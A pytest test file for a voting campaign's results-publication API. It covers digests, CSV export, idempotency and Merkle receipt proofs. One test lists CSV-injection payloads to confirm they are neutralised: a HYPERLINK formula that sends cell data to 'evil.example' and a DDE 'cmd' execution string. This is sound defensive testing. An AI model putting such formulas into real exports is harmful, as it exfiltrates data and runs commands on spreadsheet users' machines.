"""Publishing runs and reading results: versions, digest, CSV, idempotency, receipts."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from engine import merkle
from service.extensions import db
from service.models import Ballot, Publication
from tests.support import (
    ADMIN,
    APPEAL_ENTRIES,
    APPEAL_SHEETS,
    APPEAL_VOTES,
    VOTES,
    add_ballots,
    add_scores,
    drain,
    error_code,
    exclude,
    get_run,
    start_run,
    work_once,
)

# Fixtures shared with test_jobs: pytest finds them by name in this module.


def publish(client, slug: str = "c1", body=None) -> dict:
    r = client.post(f"/api/v1/campaigns/{slug}/publications", json=body or {}, headers=ADMIN)
    assert r.status_code == 202, r.json
    return r.json


def canonical_digest(doc: dict) -> str:
    body = {k: v for k, v in doc.items() if k != "digest"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def publication_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Publication))


def verify_rfc9162(leaf: bytes, index: int, size: int, path: list[bytes], root: bytes) -> bool:
    """RFC 9162 §2.1.3.2, written here independently of engine.merkle."""

    def node(a: bytes, b: bytes) -> bytes:
        return hashlib.sha256(b"\x01" + a + b).digest()

    if index >= size:
        return False
    fn, sn, r = index, size - 1, leaf
    for p in path:
        if sn == 0:
            return False
        if fn % 2 == 1 or fn == sn:
            r = node(p, r)
            while fn % 2 == 0 and fn != 0:
                fn, sn = fn >> 1, sn >> 1
        else:
            r = node(r, p)
        fn, sn = fn >> 1, sn >> 1
    return sn == 0 and r == root


def test_results_are_404_not_published_before_the_first_publication(client, app, voted):
    """Before anything is published the public results say not_published."""
    for url in ("/api/v1/campaigns/c1/results", "/api/v1/campaigns/c1/results.csv"):
        r = client.get(url)
        assert r.status_code == 404 and error_code(r) == "not_published"
    r = client.get("/api/v1/campaigns/c1/publications/1")
    assert r.status_code == 404 and error_code(r) == "not_found"
    r = client.post("/api/v1/campaigns/c1/publications", json={}, headers=ADMIN)
    assert r.status_code == 409 and error_code(r) == "no_finished_run"


def test_publish_makes_results_csv_and_version_public(client, app, voted):
    """Publishing the finished run gives version 1: the document with a checkable digest,
    the same rows as CSV (UTF-8 BOM, Chinese intact) and /publications/1."""
    run_id = start_run(client)
    drain(app)
    accepted = publish(client)
    assert accepted["run_id"] == run_id and accepted["job_id"]
    drain(app)

    doc = client.get("/api/v1/campaigns/c1/results").json
    assert doc["version"] == 1 and doc["run_id"] == run_id and doc["campaign"] == "c1"
    assert doc["digest"] == canonical_digest(doc)
    assert doc["ballots_counted"] == 4 and doc["ballots_excluded"] == 1 and doc["reviews"] == 9
    assert doc["ballots_root"] == get_run(client, run_id)["ballots_root"]
    assert doc["method"]["tie_break"] == ["votes", "expert", "reviews", "cost", "lot"]
    assert "provisional" not in doc and doc["published_at"]
    for key in ("rank", "code", "title", "category", "area", "votes", "vote_score", "reviews"):
        assert key in doc["rows"][0]
    for key in ("expert_score", "combined", "selected", "award", "tie_break", "flags"):
        assert key in doc["rows"][0]
    assert client.get("/api/v1/campaigns/c1/publications/1").json == doc

    r = client.get("/api/v1/campaigns/c1/results.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert rows[0] == [
        "rank",
        "code",
        "title",
        "category",
        "area",
        "votes",
        "vote_score",
        "reviews",
        "expert_score",
        "combined",
        "selected",
        "award",
        "flags",
        "interim",
    ]
    assert [row[1] for row in rows[1:]] == [row["code"] for row in doc["rows"]]
    titles = {row[1]: row[2] for row in rows[1:]}
    assert titles["A01"] == "24小时热线" and titles["A03"] == "便民配药"
    assert {row[3] for row in rows[1:]} == {"党建引领", "团购管理", "关怀疏导"}


def test_publication_body_may_be_omitted_or_name_a_run(client, app, voted):
    """No body publishes the latest run; a run_id publishes that run; unknown is 404."""
    first = start_run(client)
    drain(app)
    r = client.post("/api/v1/campaigns/c1/publications", headers=ADMIN)
    assert r.status_code == 202 and r.json["run_id"] == first
    r = client.post("/api/v1/campaigns/c1/publications", json={"run_id": "missing"}, headers=ADMIN)
    assert r.status_code == 404 and error_code(r) == "not_found"
    queued = start_run(client)
    r = client.post("/api/v1/campaigns/c1/publications", json={"run_id": queued}, headers=ADMIN)
    assert r.status_code == 409 and error_code(r) == "run_not_finished"


def test_republishing_unchanged_data_gives_the_same_content(client, app, voted, clock):
    """A new run over the same data published as version 2 has the same rows, method and
    result digest; only version, published_at, run_id and the digest differ."""
    start_run(client)
    drain(app)
    publish(client)
    drain(app)
    clock.set(clock.at + timedelta(hours=1))
    start_run(client)
    drain(app)
    publish(client)
    drain(app)
    one = client.get("/api/v1/campaigns/c1/publications/1").json
    two = client.get("/api/v1/campaigns/c1/publications/2").json
    assert client.get("/api/v1/campaigns/c1/results").json["version"] == 2
    assert one["rows"] == two["rows"] and one["method"] == two["method"]
    assert one["result_digest"] == two["result_digest"]
    assert one["input_digest"] == two["input_digest"]
    assert one["digest"] != two["digest"] and one["run_id"] != two["run_id"]
    volatile = {"version", "published_at", "run_id", "digest"}
    assert {k: v for k, v in one.items() if k not in volatile} == {
        k: v for k, v in two.items() if k not in volatile
    }


def test_publishing_the_same_run_twice_makes_one_publication(client, app, voted):
    """Two publish requests (or a retried job) for one run give a single version."""
    start_run(client)
    drain(app)
    a, b = publish(client), publish(client)
    assert a["run_id"] == b["run_id"]
    drain(app)
    assert publication_count(app) == 1
    from workers import jobs

    again = jobs.publish(_campaign_id(app), a["run_id"])
    assert again["version"] == 1 and publication_count(app) == 1


def _campaign_id(app) -> int:
    from service.models import Campaign

    with app.app_context():
        return db.session.scalar(select(Campaign.id).where(Campaign.slug == "c1"))


def test_a_crash_inside_the_publish_transaction_leaves_no_partial_publication(
    client, app, voted, monkeypatch
):
    """The publish job dying after building the document publishes nothing; its retry
    publishes exactly one version 1."""
    from service.domain import publications

    real_audit = publications.audit
    calls = []

    def crash_once(*args, **kwargs):
        calls.append(1)
        if len(calls) == 1:
            raise RuntimeError("worker killed between compute and commit")
        return real_audit(*args, **kwargs)

    monkeypatch.setattr(publications, "audit", crash_once)
    start_run(client)
    drain(app)
    publish(client)
    work_once(app)
    assert publication_count(app) == 0
    r = client.get("/api/v1/campaigns/c1/results")
    assert r.status_code == 404 and error_code(r) == "not_published"
    drain(app)
    assert publication_count(app) == 1
    assert client.get("/api/v1/campaigns/c1/results").json["version"] == 1


FORMULAS = {
    "F1": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "F2": "+1+cmd|' /C calc'!A0",
    "F3": "-2+3",
    "F4": "@SUM(1,2)",
    "F5": "\t=1+1",
    "F6": "\r=1+1",
    "F7": "正常标题 =1+1",
}


def test_results_csv_neutralises_formula_cells_and_keeps_numbers(
    client, app, make_campaign, workers_app
):
    """Titles, categories and areas starting with = + - @ tab or CR get a leading
    apostrophe in results.csv (OWASP CSV injection); numbers stay numbers, the JSON
    document keeps the text as entered."""
    entries = [
        {
            "code": code,
            "title": title,
            "category": "=cat" if code == "F1" else "普通",
            "area": "@area" if code == "F2" else "-",
        }
        for code, title in FORMULAS.items()
    ]
    make_campaign(
        "c1",
        entries=entries,
        ranking={"public_weight": 1, "expert_weight": 0},
        selection={"rule": "top", "winners": 2},
    )
    add_ballots(app, "c1", [["F1"], ["F1", "F3"], ["F2"]])
    start_run(client)
    drain(app)
    publish(client)
    drain(app)
    doc = client.get("/api/v1/campaigns/c1/results").json
    assert {row["code"]: row["title"] for row in doc["rows"]} == FORMULAS

    r = client.get("/api/v1/campaigns/c1/results.csv")
    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
    by_code = {row["code"]: row for row in rows}
    for code, title in FORMULAS.items():
        want = title if code == "F7" else "'" + title
        assert by_code[code]["title"] == want, code
    for row in rows:
        for key in ("title", "category", "area", "award", "flags"):
            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), (key, row)
    assert by_code["F1"]["category"] == "'=cat" and by_code["F2"]["area"] == "'@area"
    assert by_code["F3"]["area"] == "'-"
    assert by_code["F1"]["votes"] == "2" and float(by_code["F1"]["vote_score"]) > 0
    assert by_code["F1"]["rank"] == "1"


def test_live_results_show_the_latest_run_as_provisional(client, app, make_campaign, workers_app):
    """With results.live, the public sees the latest finished run marked provisional
    until something is published."""
    make_campaign("c1", results={"live": True, "auto_publish": False})
    add_ballots(app, "c1", VOTES)
    assert client.get("/api/v1/campaigns/c1/results").status_code == 404
    run_id = start_run(client)
    drain(app)
    doc = client.get("/api/v1/campaigns/c1/results").json
    assert doc["provisional"] is True and doc["run_id"] == run_id
    assert doc["ballots_counted"] == 5
    r = client.get("/api/v1/campaigns/c1/results.csv")
    assert r.status_code == 404 and error_code(r) == "not_published"


@pytest.mark.parametrize("chunk", [4, 1024])
def test_receipt_proofs_verify_against_the_published_root(
    client, app, make_campaign, workers_app, monkeypatch, chunk
):
    """Every counted receipt gets an audit path that an independent RFC 9162 verifier
    accepts against the published ballots_root; the leaf is SHA-256(0x00 ‖ receipt)."""
    from service.domain.publications import receipt_status

    monkeypatch.setattr(merkle, "CHUNK", chunk)
    make_campaign("c1", ranking={"public_weight": 1, "expert_weight": 0})
    ballots = add_ballots(app, "c1", [["A01"], ["A02"], ["A01", "A03"]] * 4 + [["A03"]])
    exclude(app, "c1", ballots[5][0], reason="重复投票")
    with app.app_context():
        before = receipt_status(db.session.get(Ballot, ballots[0][0]))
    assert before == {"campaign": "c1", "status": "recorded"}

    start_run(client)
    drain(app)
    publish(client)
    drain(app)
    late = add_ballots(app, "c1", [["A02"]])
    doc = client.get("/api/v1/campaigns/c1/results").json
    root = bytes.fromhex(doc["ballots_root"])

    seen = []
    with app.app_context():
        for i, (ballot_id, receipt) in enumerate(ballots):
            status = receipt_status(db.session.get(Ballot, ballot_id))
            if i == 5:
                assert status == {
                    "campaign": "c1",
                    "status": "excluded",
                    "publication": 1,
                    "reason": "重复投票",
                }
                continue
            assert status["status"] == "counted" and status["publication"] == 1
            assert status["ballots_root"] == doc["ballots_root"]
            leaf = hashlib.sha256(b"\x00" + receipt.encode("utf-8")).digest()
            assert status["leaf_hash"] == leaf.hex()
            proof = status["proof"]
            assert proof["tree_size"] == 12 == doc["ballots_counted"]
            path = [bytes.fromhex(h) for h in proof["audit_path"]]
            assert verify_rfc9162(leaf, proof["leaf_index"], proof["tree_size"], path, root)
            assert not verify_rfc9162(leaf, proof["leaf_index"] ^ 1, 12, path, root)
            seen.append(proof["leaf_index"])
        assert sorted(seen) == list(range(12))
        # Leaves are in receipt order, so the index is the receipt's rank among counted.
        counted = sorted(r for i, (_, r) in enumerate(ballots) if i != 5)
        status = receipt_status(db.session.get(Ballot, ballots[0][0]))
        assert status["proof"]["leaf_index"] == counted.index(ballots[0][1])
        assert receipt_status(db.session.get(Ballot, late[0][0])) == {
            "campaign": "c1",
            "status": "recorded",
        }


# --- recomputing a published score from the document alone (issue 19) -------------------


def _recompute(doc: dict, sheets: dict[str, list[tuple[int, int]]]) -> None:
    """Redo every published score from the published raw scores, calibration parameters
    and method, with no engine code: what a reader of the document can do by hand."""
    method, cal = doc["method"], doc["calibration"]
    tol = 0.5 * 10 ** -method["score_decimals"] + 1e-9
    lo, hi = method["calibrated_clip"]
    clip = lambda x: min(max(x, lo), hi)  # noqa: E731
    assert cal["how"] == method["calibration"]
    # Expert ids are database ids, created E1, E2, ... in order.
    expert_ids = sorted({d["expert"] for r in doc["rows"] for d in r["review_detail"]}, key=int)
    sheet_of = {e: k for k, e in enumerate(expert_ids)}
    most = max(r["votes"] for r in doc["rows"])
    assert method["vote_score"] == "max"
    for row in doc["rows"]:
        calibrated = []
        for d in row["review_detail"]:
            impact, novelty = sheets[row["code"]][sheet_of[d["expert"]]]
            # The expert's sheet → S: 100 · Σ w·s / Σ w·max, both weights 1.
            assert d["raw"] == round(100 * (impact + novelty) / 60, method["raw_score_decimals"])
            if cal["how"] == "zscore":
                p = cal["experts"][d["expert"]]
                z = 0.0 if p["flat"] else (d["raw"] - p["mean"]) / p["std"]
                c = clip(cal["panel"]["mean"] + z * cal["panel"]["std"])
            elif cal["how"] == "additive":
                c = clip(d["raw"] - cal["experts"][d["expert"]]["bias"])
            else:
                c = d["raw"]
            assert abs(c - d["calibrated"]) <= tol, (row["code"], d)
            assert row["review_scores"][d["expert"]] == d["calibrated"]
            calibrated.append(c)
        calibrated.sort()
        n = len(calibrated)
        if n == 0:
            e = method["entry_score_without_reviews"]
        elif method["aggregate"] == "median":
            e = (calibrated[(n - 1) // 2] + calibrated[n // 2]) / 2
        elif method["aggregate"] == "trimmed_mean" and n >= method["trimmed_mean_min_reviews"]:
            e = sum(calibrated[1:-1]) / (n - 2)
        else:
            e = sum(calibrated) / n
        assert abs(e - row["expert_score"]) <= tol, (row["code"], e, row["expert_score"])
        v = 100 * row["votes"] / most
        combined = method["public_weight"] * v + method["expert_weight"] * e
        assert abs(combined - row["combined"]) <= tol, (row["code"], combined, row["combined"])


@pytest.mark.parametrize(
    "calibration, aggregate",
    [("zscore", "mean"), ("zscore", "trimmed_mean"), ("additive", "mean"), ("additive", "median")],
)
def test_a_published_score_can_be_recomputed_from_the_document_alone(
    client, app, make_campaign, workers_app, clock, calibration, aggregate
):
    """After a real run and publication, each entry's expert and combined score follow
    from the published raw scores, calibration parameters and method by a few lines of
    arithmetic; the same data publishes the same result digest."""
    make_campaign(
        "c1",
        entries=APPEAL_ENTRIES,
        review={"calibration": calibration, "aggregate": aggregate, "min_reviews": 2},
        selection={"rule": "top", "winners": 3},
    )
    add_ballots(app, "c1", APPEAL_VOTES)
    add_scores(app, "c1", APPEAL_SHEETS)
    start_run(client)
    drain(app)
    publish(client)
    drain(app)
    doc = client.get("/api/v1/campaigns/c1/results").json
    assert doc["digest"] == canonical_digest(doc)
    _recompute(doc, APPEAL_SHEETS)
    rows = {r["code"]: r for r in doc["rows"]}
    assert rows["B07"]["expert_score"] == 0 and rows["B07"]["review_detail"] == []
    assert "insufficient_reviews" in rows["B07"]["flags"]
    if calibration == "additive":
        # The fine print shows: a fit above 100 is published clipped, and with median
        # the entry score is not the fitted value.
        assert any(d["clipped"] and d["calibrated"] == 100.0 for d in rows["B01"]["review_detail"])
        if aggregate == "median":
            assert any(
                abs(doc["calibration"]["values"][c] - r["expert_score"]) > 0.01
                for c, r in rows.items()
                if r["reviews"]
            )
    clock.set(clock.at + timedelta(hours=1))
    start_run(client)
    drain(app)
    publish(client)
    drain(app)
    again = client.get("/api/v1/campaigns/c1/results").json
    assert again["version"] == 2 and again["result_digest"] == doc["result_digest"]
    assert again["calibration"] == doc["calibration"]


def test_a_pruned_run_is_refused_by_the_api_and_by_the_publish_job(client, app, voted):
    """The publish preconditions live once (publications.publishable_run): a run whose
    ballot tree is gone is 409 run_expired from the API, and the same refusal (not
    retried) when a job is asked to publish it directly."""
    from service.domain import publications
    from service.models import MerkleChunk

    run_id = start_run(client)
    drain(app)
    with app.app_context():
        db.session.execute(db.delete(MerkleChunk).where(MerkleChunk.run_id == run_id))
        db.session.commit()
    r = client.post("/api/v1/campaigns/c1/publications", json={"run_id": run_id}, headers=ADMIN)
    assert r.status_code == 409 and error_code(r) == "run_expired"
    with app.app_context():
        campaign_id = db.session.scalar(select(Ballot.campaign_id).limit(1))
        with pytest.raises(publications.PublishError) as refused:
            publications.publish_run(campaign_id, run_id)
        assert (refused.value.status, refused.value.code) == (409, "run_expired")
    assert publication_count(app) == 0
